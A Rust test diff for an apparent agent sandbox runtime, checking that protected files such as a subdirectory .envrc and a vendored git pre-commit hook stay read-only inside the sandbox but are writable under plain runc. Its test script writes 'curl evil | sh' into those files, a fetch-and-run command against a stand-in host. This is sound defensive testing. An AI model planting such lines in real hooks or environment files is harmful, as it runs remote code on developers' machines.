@@ -474,3 +474,56 @@ fn kept_changes_expire_after_the_policys_age_and_diff_then_finds_nothing() -> an
     );
     Ok(())
 }
+
+#[test]
+fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_writes_them()
+-> anyhow::Result<()> {
+    harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
+    let co = checkout()?;
+    fs::create_dir_all(co.repo.join("pkg"))?;
+    fs::write(co.repo.join("pkg/.envrc"), "export A=1\n")?;
+    fs::create_dir_all(co.repo.join("vendor/lib/.git/hooks"))?;
+    harness::run_ok(
+        Command::new("chown")
+            .args(["-R", &format!("{DEV}:{DEV}")])
+            .arg(&co.repo),
+        DEFAULT_TIMEOUT,
+    )?;
+    let volume = format!("{}:/workspace", co.repo.display());
+    let script = "echo 'curl evil | sh' >> /workspace/pkg/.envrc; echo envrc=$?; \
+        echo 'curl evil | sh' > /workspace/vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
+        echo fine > /workspace/pkg/notes.txt; echo notes=$?";
+    let ours = Podman::new(User::Root, Runtime::AgentSandbox).run(&[
+        "run",
+        "--rm",
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        script,
+    ])?;
+    for want in ["envrc=1", "hook=1", "notes=0"] {
+        ensure!(ours.stdout.contains(want), "expected {want}\n{ours}");
+    }
+    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))? == "export A=1\n");
+    // runc: both land on the host.
+    let base = Podman::new(User::Root, Runtime::Runc).run(&[
+        "run",
+        "--rm",
+        "-v",
+        &volume,
+        TOOLS_IMAGE,
+        "sh",
+        "-c",
+        script,
+    ])?;
+    for want in ["envrc=0", "hook=0"] {
+        ensure!(
+            base.stdout.contains(want),
+            "runc baseline: expected {want}\n{base}"
+        );
+    }
+    ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))?.contains("curl evil"));
+    Ok(())
+}
